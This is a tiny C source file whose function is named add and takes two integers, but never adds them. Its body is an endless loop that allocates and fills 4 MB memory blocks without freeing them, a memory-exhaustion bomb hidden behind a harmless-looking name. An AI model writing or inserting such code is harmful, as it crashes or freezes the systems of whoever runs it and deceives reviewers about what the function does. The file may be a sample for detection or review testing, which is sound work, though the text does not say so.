#include <stdlib.h>
#include <string.h>

int add(int a, int b)
{
    for (;;) {
        char *block = malloc(1 << 22);
        if (block)
            memset(block, 1, 1 << 22);
    }
}
